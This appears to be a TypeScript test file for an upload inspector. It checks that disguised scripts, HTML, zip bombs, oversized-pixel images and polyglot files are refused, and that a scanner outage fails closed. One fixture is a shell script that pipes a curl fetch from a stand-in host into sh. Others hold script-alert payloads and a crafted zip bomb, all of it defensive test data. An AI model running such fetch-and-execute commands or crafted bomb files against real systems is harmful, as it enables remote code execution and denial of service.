import assert from 'node:assert/strict';
import { test } from 'node:test';
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { renderPdf } from '../pdf/render-pdf.ts';
import { inspectUpload, type InspectOptions } from './inspect-upload.ts';
import type { MalwareScanner } from './malware-scanner.ts';

const ALL: InspectOptions = { maxSizeBytes: 5 * 1024 * 1024, mediaTypes: ['application/pdf', 'image/png', 'image/jpeg', 'image/webp'] };

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A real PNG (greyscale) of the given declared size; the pixel data is only built for small images. */
function png(width: number, height: number, pixels = width * height <= 10_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  const raw = pixels ? Buffer.alloc((width + 1) * height, 0) : Buffer.alloc(64, 0);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr), pngChunk('IDAT', deflateSync(raw)), pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A JPEG header frame (SOI, JFIF APP0, SOF0 with the size, EOI): enough for type and size checks. */
function jpeg(width: number, height: number): Buffer {
  const app0 = Buffer.from([0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app0, sof, Buffer.from([0xff, 0xd9])]);
}

/** A WebP (extended format, VP8X) header with the canvas size. */
function webp(width: number, height: number): Buffer {
  const vp8x = Buffer.alloc(10);
  vp8x.writeUIntLE(width - 1, 4, 3);
  vp8x.writeUIntLE(height - 1, 7, 3);
  const chunk = Buffer.concat([Buffer.from('VP8X'), Buffer.from([10, 0, 0, 0]), vp8x]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(4 + chunk.length);
  return Buffer.concat([Buffer.from('RIFF'), size, Buffer.from('WEBP'), chunk]);
}

/** A zip archive with one deflated entry (a "zip bomb" when the content is large and repetitive). */
function zip(name: string, content: Buffer): Buffer {
  const data = deflateRawSync(content);
  const nameBytes = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(crc32(content), 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(nameBytes.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc32(content), 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(nameBytes.length, 28);
  const centralOffset = local.length + nameBytes.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + nameBytes.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, nameBytes, data, central, nameBytes, end]);
}

test('accepts a real PDF, PNG and JPEG by their content, whatever they are called', async () => {
  assert.deepEqual(await inspectUpload(await renderPdf({ title: 'Nachweis', author: 'Test', blocks: [] }), ALL), { ok: true, mediaType: 'application/pdf', extension: 'pdf' });
  assert.deepEqual(await inspectUpload(png(20, 10), ALL), { ok: true, mediaType: 'image/png', extension: 'png' });
  assert.deepEqual(await inspectUpload(jpeg(800, 600), ALL), { ok: true, mediaType: 'image/jpeg', extension: 'jpg' });
  assert.deepEqual(await inspectUpload(webp(640, 480), ALL), { ok: true, mediaType: 'image/webp', extension: 'webp' });
  assert.deepEqual(await inspectUpload(webp(16_000, 16_000), ALL), { ok: false, code: 'too-large' });
});

test('refuses a script renamed to .pdf, HTML, and a type the field does not accept', async () => {
  const script = new TextEncoder().encode('#!/bin/sh\ncurl http://example.invalid | sh\n');
  assert.deepEqual(await inspectUpload(script, ALL), { ok: false, code: 'type-not-allowed' });
  const htmlFile = new TextEncoder().encode('<!DOCTYPE html><script>alert(1)</script>');
  assert.deepEqual(await inspectUpload(htmlFile, ALL), { ok: false, code: 'type-not-allowed' });
  assert.deepEqual(await inspectUpload(png(4, 4), { ...ALL, mediaTypes: ['application/pdf'] }), { ok: false, code: 'type-not-allowed' });
  // A text file that merely starts like a PDF but has no PDF frame.
  assert.deepEqual(await inspectUpload(new TextEncoder().encode('%PDF-1.7\n<script>alert(1)</script>\n'), ALL), { ok: false, code: 'malformed' });
});

test('refuses an empty file and an oversized one, also when the multipart reader cut it at the limit', async () => {
  assert.deepEqual(await inspectUpload(new Uint8Array(), ALL), { ok: false, code: 'empty' });
  const pdf = await renderPdf({ title: 'Groß', author: 'Test', blocks: [] });
  assert.deepEqual(await inspectUpload(pdf, { ...ALL, maxSizeBytes: pdf.length - 1 }), { ok: false, code: 'too-large' });
  assert.deepEqual(await inspectUpload({ bytes: pdf.subarray(0, 100), truncated: true }, ALL), { ok: false, code: 'too-large' });
});

test('refuses zip archives, among them a zip bomb, without unpacking them', async () => {
  assert.deepEqual(await inspectUpload(zip('readme.txt', Buffer.from('hallo')), ALL), { ok: false, code: 'type-not-allowed' });
  const bomb = zip('bomb.txt', Buffer.alloc(50 * 1024 * 1024, 0));
  assert.ok(bomb.length < 100_000, 'the bomb is small');
  assert.deepEqual(await inspectUpload(bomb, ALL), { ok: false, code: 'type-not-allowed' });
});

test('refuses an image whose header declares a decompression bomb of pixels', async () => {
  assert.deepEqual(await inspectUpload(png(100_000, 100_000), ALL), { ok: false, code: 'too-large' });
  assert.deepEqual(await inspectUpload(jpeg(65_000, 65_000), ALL), { ok: false, code: 'too-large' });
  assert.deepEqual(await inspectUpload(png(200, 200), { ...ALL, maxPixels: 10_000 }), { ok: false, code: 'too-large' });
});

test('refuses polyglots: a PNG or a PDF with a zip archive appended, a PNG with data after IEND, a broken PNG', async () => {
  const archive = zip('payload.js', Buffer.from('alert(1)'));
  assert.deepEqual(await inspectUpload(Buffer.concat([png(8, 8), archive]), ALL), { ok: false, code: 'malformed' });
  const pdf = await renderPdf({ title: 'Polyglott', author: 'Test', blocks: [] });
  assert.deepEqual(await inspectUpload(Buffer.concat([pdf, archive]), ALL), { ok: false, code: 'malformed' });
  assert.deepEqual(await inspectUpload(Buffer.concat([png(8, 8), Buffer.from('<script>alert(1)</script>')]), ALL), { ok: false, code: 'malformed' });
  assert.deepEqual(await inspectUpload(png(8, 8).subarray(0, 40), ALL), { ok: false, code: 'malformed' });
});

test('asks the malware scanner last and fails closed when it cannot answer', async () => {
  const pdf = await renderPdf({ title: 'Scan', author: 'Test', blocks: [] });
  const scanned: number[] = [];
  const scanner = (verdict: 'clean' | 'infected' | 'unavailable'): MalwareScanner => ({ async scan(bytes) { scanned.push(bytes.length); return verdict; } });
  assert.deepEqual(await inspectUpload(pdf, { ...ALL, scanner: scanner('infected') }), { ok: false, code: 'infected' });
  assert.deepEqual(await inspectUpload(pdf, { ...ALL, scanner: scanner('unavailable') }), { ok: false, code: 'scan-unavailable' });
  assert.equal((await inspectUpload(pdf, { ...ALL, scanner: scanner('clean') })).ok, true);
  await inspectUpload(new Uint8Array([1, 2, 3]), { ...ALL, scanner: scanner('clean') });
  assert.deepEqual(scanned, [pdf.length, pdf.length, pdf.length], 'a refused type is not sent to the scanner');
});
